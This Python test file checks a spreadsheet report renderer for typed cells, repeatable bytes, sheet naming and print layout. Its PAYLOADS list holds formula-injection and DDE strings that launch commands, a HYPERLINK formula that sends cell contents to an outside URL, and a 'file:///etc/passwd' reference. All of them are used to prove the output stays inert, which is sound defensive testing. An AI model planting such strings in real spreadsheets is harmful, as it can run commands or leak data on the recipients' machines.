"""The file: typed cells, the same bytes twice, and whatever somebody wrote runs nothing."""

import io
import re
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as some

from core.reports.document import (
    Bars,
    Document,
    Estimate,
    Heading,
    Intervals,
    Paragraph,
    Points,
    Sent,
    Stamp,
    Table,
)
from core.reports.workbook import render_workbook, render_workbook_of
from core.reports.workbook_sheet import MOST_ROWS_IN_SUMMARY
from core.reports.workbook_text import LONGEST_CELL, clean_text, escape_margin, name_sheets
from core.vocabulary import DisclosureLevel, LawfulBasis, say

SENT = Sent(DisclosureLevel.AGREEMENT, "Ofsted", LawfulBasis.PUBLIC_TASK, "ab" * 32)
STAMP = Stamp(datetime(2019, 7, 1, 9, 30, tzinfo=UTC), "A liaison, Ofsted", 12, True, None, SENT)
TABLE = Table(
    headings=("Reference", "Call-outs", "Rate", "Day", "Moment", "Known", "Blank"),
    rows=(
        ("0012", 1200, 0.5, date(2019, 5, 4), datetime(2019, 5, 4, 19, 30), True, None),
        ("1e5", -3, -0.25, date(2019, 5, 5), datetime(2019, 5, 5, 7, 5), False, None),
    ),
    alt="Two contacts with the police.",
    widths=(1,) * 7,
    name="contacts",
)
DOCUMENT = Document(
    "Alder, May 2019",
    "What the month shows",
    (
        Heading("First part"),
        Paragraph("Some words.", "Label"),
        Points(("one", "two"), "Points"),
        TABLE,
        Bars("Months", ("Apr", "May"), (("999", (4, None)),), "calls", "Fewer.", ("", "c")),
        Intervals(
            "Rates",
            (Estimate("Alder", 1.5, 0.5, 3.0), Estimate("Birch", None, said="not enough data")),
            "per place-year",
            "Within.",
        ),
    ),
)

# What has been used to make a spreadsheet run, fetch or break something.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://example.org?x="&A1,"see")',
    "http://example.org/a",
    "mailto:somebody@example.org",
    "file:///etc/passwd",
    "internal:Summary!A1",
    "external:c:\\temp\\foo.xlsx",
    "{=SUM(A1:A2)}",
    '=DDE("cmd";"/C calc";"x")',
    "='[other.xlsx]Sheet1'!A1",
    "\uff1d1+1",
    "<r><t>x</t></r>",
    "<r></si><si><t>y</t></r>",
    "]]>&amp;<!-- x -->",
    "_x003D_1+1",
    '&P &N &[File] &G &[Picture] &"Arial"&20',
    "a\x00b\x08c\x1fd\ufffee\ud800f",
    "line\r\none\rtwo\nthree",
    "x" * 40_000,
    "\U0001f600" * 20_000,
    "' leading",
    "a:b\\c/d?e*f[g]h",
    "History",
    "Contacts",
    "SUMMARY",
    "'quoted'",
    "   ",
    "",
    "12",
    "1e5",
    "2019-05-04",
    "TRUE",
]


def open_book(content: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(content))


def read_parts(content: bytes) -> dict[str, str]:
    """Every part of the archive as text, each well-formed XML."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    for name, part in parts.items():
        assert ElementTree.fromstring(part) is not None, name
    return parts


def read_cells(content: bytes, sheet: str) -> list[list[Any]]:
    """What stands on a sheet, rows of values, blank ones left out."""
    rows = open_book(content)[sheet].iter_rows(values_only=True)
    return [[cell for cell in row if cell is not None] for row in rows if any(row)]


def fill(payload: str) -> tuple[Document, Stamp]:
    """A document and a stamp with these words wherever words can stand."""
    table = Table((payload, payload), ((payload, 1), (None, payload)), payload, (1, 1), payload)
    long = replace(table, rows=((payload, payload),) * (MOST_ROWS_IN_SUMMARY + 1))
    document = Document(
        payload,
        payload,
        (
            Heading(payload),
            Heading(payload, 2),
            Paragraph(payload, payload),
            Points((payload, payload), payload),
            table,
            long,
            Bars(payload, (payload,), ((payload, (None,)),), payload, payload, (payload,)),
            Intervals(payload, (Estimate(payload, None, said=payload),), payload, payload),
        ),
    )
    sent = replace(SENT, recipient=payload)
    return document, replace(STAMP, made_by=payload, digest=payload, sent=sent)


def check_inert(content: bytes) -> None:
    """Nothing in the file computes, links, embeds or fetches, and every text is of its type."""
    parts = read_parts(content)
    for name, part in parts.items():
        tags = {element.tag.split("}")[-1] for element in ElementTree.fromstring(part).iter()}
        assert not tags & {"f", "hyperlink", "hyperlinks", "ddeLink", "oleObject", "drawing"}, name
        assert "TargetMode" not in part, name
    known = re.compile(
        r"\[Content_Types\]\.xml|_rels/\.rels|docProps/(app|core)\.xml"
        r"|xl/(workbook|styles|sharedStrings)\.xml|xl/theme/theme1\.xml"
        r"|xl/worksheets/sheet\d+\.xml|xl/_rels/workbook\.xml\.rels"
    )
    assert [name for name in parts if not known.fullmatch(name)] == []
    for sheet in open_book(content):
        assert not sheet.merged_cells.ranges
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in {"s", "n", "d"} and cell.hyperlink is None
                if isinstance(cell.value, str):
                    assert cell.data_type == "s" or cell.value == ""


@pytest.mark.filterwarnings("error")
@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda words: repr(words[:20]))
def test_nothing_runs_wherever_words_can_stand(payload: str) -> None:
    document, stamp = fill(payload)
    check_inert(render_workbook(document, stamp))
    check_inert(render_workbook_of([(payload, document), (payload, document)], payload, stamp))


@settings(max_examples=25, deadline=None)
@given(some.text("=+-@'\t\r\n&<>_x0\x00\x0b[]:*?/\\ A\U0001f600", max_size=45))
def test_nothing_runs_whatever_the_words(words: str) -> None:
    document, stamp = fill(words)
    check_inert(render_workbook(document, stamp))


def test_a_text_that_would_run_is_read_back_as_it_was_and_stays_text_when_edited() -> None:
    table = replace(TABLE, headings=("A",), rows=(("=1+1",), ("plain",)), widths=(1,))
    sheet = open_book(render_workbook(Document("T", "", (table,)), STAMP))["Contacts"]
    kept = {cell.value: cell.quotePrefix for (cell,) in sheet.iter_rows(max_col=1) if cell.value}
    assert kept["=1+1"] is True
    assert kept["plain"] is not True


def test_cells_have_the_types_of_what_stands_in_them() -> None:
    book = open_book(render_workbook(DOCUMENT, STAMP))
    for name in ("Summary", "Contacts"):
        (head,) = [row for row in book[name].iter_rows() if row[0].value == "Reference"]
        first, second = list(book[name].iter_rows(min_row=head[0].row + 1))[:2]
        values = [cell.value for cell in first]
        assert values == [
            "0012",
            1200,
            0.5,
            datetime(2019, 5, 4),
            datetime(2019, 5, 4, 19, 30),
            "yes",
            None,
        ]
        assert [cell.value for cell in second[:3]] == ["1e5", -3, -0.25]
        assert (first[3].number_format, first[4].number_format) == (
            "d mmm yyyy",
            "d mmm yyyy hh:mm",
        )


@pytest.mark.parametrize(
    ("cell", "said"),
    [
        (date(1900, 12, 31), "31 December 1900"),
        (date(1900, 1, 1), "1 January 1900"),
        (datetime(1066, 10, 14, 9), "14 October 1066, 09:00"),
        (float("inf"), "inf"),
        (10**15, f"{10**15:,}"),
    ],
)
def test_what_a_spreadsheet_would_hold_as_something_else_stands_in_words(
    cell: Any, said: str
) -> None:
    table = replace(TABLE, headings=("A",), rows=((cell,),), widths=(1,))
    assert [said] in read_cells(render_workbook(Document("T", "", (table,)), STAMP), "Contacts")


def test_the_first_day_that_is_typed_is_the_one_after_those_that_excel_miscounts() -> None:
    table = replace(TABLE, headings=("A",), rows=((date(1901, 1, 1),),), widths=(1,))
    cells = read_cells(render_workbook(Document("T", "", (table,)), STAMP), "Contacts")
    assert [datetime(1901, 1, 1)] in cells


def test_a_moment_with_a_zone_is_shown_as_uk_time() -> None:
    moment = datetime(2019, 7, 1, 9, 30, tzinfo=UTC)
    table = replace(TABLE, headings=("A",), rows=((moment,),), widths=(1,))
    cells = read_cells(render_workbook(Document("T", "", (table,)), STAMP), "Contacts")
    assert [datetime(2019, 7, 1, 10, 30)] in cells


def test_the_same_document_and_stamp_are_the_same_bytes() -> None:
    made = render_workbook(DOCUMENT, STAMP)
    assert made == render_workbook(DOCUMENT, STAMP)
    assert made != render_workbook(DOCUMENT, replace(STAMP, data_revision=13))
    parts = [("Alder", DOCUMENT), ("Birch", DOCUMENT)]
    assert render_workbook_of(parts, "Pack", STAMP) == render_workbook_of(parts, "Pack", STAMP)


def test_the_properties_are_the_stamps() -> None:
    properties = open_book(render_workbook(DOCUMENT, STAMP)).properties
    assert (properties.title, properties.creator) == (DOCUMENT.title, STAMP.made_by)
    assert properties.created == properties.modified == STAMP.made_at.replace(tzinfo=None)


def test_the_first_sheet_has_every_word_in_order_and_each_table_a_sheet() -> None:
    content = render_workbook(DOCUMENT, STAMP)
    assert open_book(content).sheetnames == ["Summary", "Contacts"]
    said = [row[0] for row in read_cells(content, "Summary")]
    expected = [
        "Demonstration: synthetic data",
        DOCUMENT.title,
        DOCUMENT.about,
        STAMP.level_words,
        "First part",
        "Label",
        "Some words.",
        "Points",
        "• one",
        "• two",
        "Reference",
        "0012",
        "Months",
        "Fewer.",
        "Apr",
        "May",
        "Rates",
        "Within.",
        "Alder",
        "Birch",
        STAMP.words,
    ]
    assert [words for words in said if words in expected] == expected


def test_a_figure_is_a_table_of_its_data_that_says_what_is_withheld() -> None:
    cells = read_cells(render_workbook(DOCUMENT, STAMP), "Summary")
    assert ["999 (calls)"] in cells
    assert ["Apr", 4] in cells
    assert ["May", "c"] in cells
    assert ["Alder", 1.5, 0.5, 3] in cells
    assert ["Birch", "not enough data"] in cells
    unmarked = Bars("Months", ("Apr", "May"), (("999", (0, None)),), "calls", "Fewer.")
    plain = read_cells(render_workbook(Document("T", "", (unmarked,)), STAMP), "Summary")
    assert ["Apr", 0] in plain
    assert ["May", "no data"] in plain


@pytest.mark.parametrize(
    ("count", "whole"), [(MOST_ROWS_IN_SUMMARY, True), (MOST_ROWS_IN_SUMMARY + 1, False)]
)
def test_a_long_table_is_left_to_its_own_sheet(count: int, whole: bool) -> None:
    table = Table(("A",), tuple((number,) for number in range(count)), "Many.", (1,), "Long")
    content = render_workbook(Document("T", "", (table,)), STAMP)
    assert ([count - 1] in read_cells(content, "Summary")) is whole
    assert [count - 1] in read_cells(content, "Long")
    said = [f"Many. Its {count} rows are on the sheet “Long”."]
    assert (said in read_cells(content, "Summary")) is not whole


def test_several_documents_have_a_sheet_each_behind_a_list_of_them() -> None:
    other = replace(DOCUMENT, title="Birch, May 2019")
    content = render_workbook_of([("Alder", DOCUMENT), ("Birch", other)], "Pack of May", STAMP)
    assert open_book(content).sheetnames == ["Contents", "Alder", "Birch"]
    contents = read_cells(content, "Contents")
    assert ["Pack of May"] in contents
    assert ["Birch", "Birch, May 2019", "What the month shows"] in contents
    for name in ("Alder", "Birch"):
        cells = read_cells(content, name)
        assert [f"{name}, May 2019"] in cells
        assert next(row for row in cells if row[0] == "0012")[:3] == ["0012", 1200, 0.5]


def test_no_document_at_all_is_still_a_workbook() -> None:
    assert open_book(render_workbook_of([], "Pack", STAMP)).sheetnames == ["Contents"]
    empty = Document("T", "", (Table(("A", "B"), (), "None.", (1, 1)),))
    assert ["A", "B"] in read_cells(render_workbook(empty, STAMP), "Table 1")


def test_every_sheet_says_where_it_comes_from_and_how_far_it_may_go() -> None:
    one = render_workbook(DOCUMENT, STAMP)
    several = render_workbook_of([("Alder", DOCUMENT)], "Pack", STAMP)
    for content in (one, several):
        for sheet in open_book(content):
            said = [str(cell) for row in sheet.iter_rows(values_only=True) for cell in row if cell]
            assert said[0] == "Demonstration: synthetic data"
            text = "\n".join(said)
            assert STAMP.words in text
            assert STAMP.level_words in text
            assert say(LawfulBasis.PUBLIC_TASK) in text
            assert "Data revision: 12" in text
            assert "ab" * 32 in text
    own = render_workbook(DOCUMENT, replace(STAMP, demonstration=False, sent=None))
    assert "Demonstration" not in read_parts(own)["xl/sharedStrings.xml"]
    assert "Lawful basis" not in read_parts(own)["xl/sharedStrings.xml"]
    judged = render_workbook(replace(DOCUMENT, ruleset="Protocol 2018"), STAMP)
    for sheet in open_book(judged).sheetnames:
        assert ["Ruleset: Protocol 2018"] in read_cells(judged, sheet)


def test_every_sheet_prints_on_a4_one_page_wide_with_its_head_and_foot() -> None:
    for sheet in open_book(render_workbook(DOCUMENT, STAMP)):
        assert sheet.page_setup.paperSize == 9
        assert (sheet.page_setup.fitToWidth or 1, sheet.page_setup.fitToHeight) == (1, 0)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.oddHeader.left.text == DOCUMENT.title
        assert STAMP.level_words in sheet.oddHeader.right.text
        assert sheet.oddFooter.left.text == STAMP.words
        assert "Page &P of &N" in str(sheet.oddFooter.right.text).replace("&[Page]", "&P")


def test_a_tables_headings_stay_in_sight_and_are_printed_on_each_page() -> None:
    sheet = open_book(render_workbook(DOCUMENT, STAMP))["Contacts"]
    (head,) = [row[0].row for row in sheet.iter_rows() if row[0].value == "Reference"]
    assert sheet.freeze_panes == f"A{head + 1}"
    assert sheet.print_title_rows == f"${head}:${head}"
    assert all(cell.font.bold for cell in sheet[head])


@pytest.mark.parametrize(
    ("names", "made"),
    [
        (["Alder", "alder", "ALDER"], ["Alder", "alder (2)", "ALDER (3)"]),
        (["History", "history"], ["History (2)", "history (3)"]),
        (["", "  ", "'"], ["Sheet 1", "Sheet 2", "Sheet 3"]),
        (["a[b]:c*d?e/f\\g"], ["a b c d e f g"]),
        (["'Nan's'"], ["Nan's"]),
        (["x" * 31], ["x" * 31]),
        (["x" * 32, "x" * 33], ["x" * 31, "x" * 27 + " (2)"]),
        (["\U0001f600" * 16], ["\U0001f600" * 15]),
        (["Straße", "STRASSE"], ["Straße", "STRASSE (2)"]),
    ],
)
def test_a_sheets_name_is_valid_and_its_own(names: list[str], made: list[str]) -> None:
    assert name_sheets(names) == made


@settings(deadline=None)
@given(some.lists(some.text("aA'[]:*?/\\ (2)\U0001f600hHistory\t", max_size=40), max_size=8))
def test_sheet_names_are_valid_whatever_the_words(names: list[str]) -> None:
    made = name_sheets(names)
    assert len({name.lower() for name in made} | {"history"}) == len(names) + 1
    for name in made:
        assert 1 <= len(name.encode("utf-16-le")) // 2 <= 31
        assert not re.search(r"[\[\]:*?/\\]", name)
        assert name == name.strip("' ")


@pytest.mark.parametrize("over", [-1, 0, 1])
@pytest.mark.parametrize("letter", ["x", "\U0001f600"])
def test_a_text_longer_than_a_cell_is_cut_and_says_so(letter: str, over: int) -> None:
    units = len(letter.encode("utf-16-le")) // 2
    text = letter * ((LONGEST_CELL + over * units) // units)
    clean = clean_text(text)
    assert len(clean.encode("utf-16-le")) // 2 <= LONGEST_CELL
    fits = len(text.encode("utf-16-le")) // 2 <= LONGEST_CELL
    assert (clean == text) is fits
    assert clean.endswith(f"(cut here: the text has {len(text):,} characters)") is not fits


def test_what_xml_forbids_is_seen_to_have_been_there() -> None:
    assert clean_text("a\x00b\x1fc\ufffed\ud800e") == "a\ufffdb\ufffdc\ufffdd\ufffde"
    assert clean_text("a\r\nb\rc\n\td") == "a\nb\nc\n\td"


@settings(deadline=None)
@given(some.text("&&&[]PGx\U0001f600\n", max_size=60), some.integers(2, 20))
def test_a_margin_has_no_code_of_somebody_elses_and_keeps_its_length(words: str, most: int) -> None:
    made = escape_margin(words, most)
    assert len(made.encode("utf-16-le")) // 2 <= most
    assert "&" not in made.replace("&&", "")
    # Escaped or not, XlsxWriter would take these for its own and leave the margin out.
    assert not re.search(r"&[\[G]", made)
